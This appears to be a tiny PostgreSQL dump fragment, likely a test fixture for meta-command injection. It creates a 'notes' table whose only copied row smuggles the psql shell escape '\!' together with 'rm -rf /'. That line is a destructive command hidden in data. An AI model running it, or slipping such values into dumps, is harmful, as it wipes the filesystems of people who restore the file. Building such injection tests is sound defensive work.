SET row_security = off;
CREATE TABLE public.notes (body text);
\copy public.notes (body) from stdin
\\! rm -rf /
\.
SELECT 1;
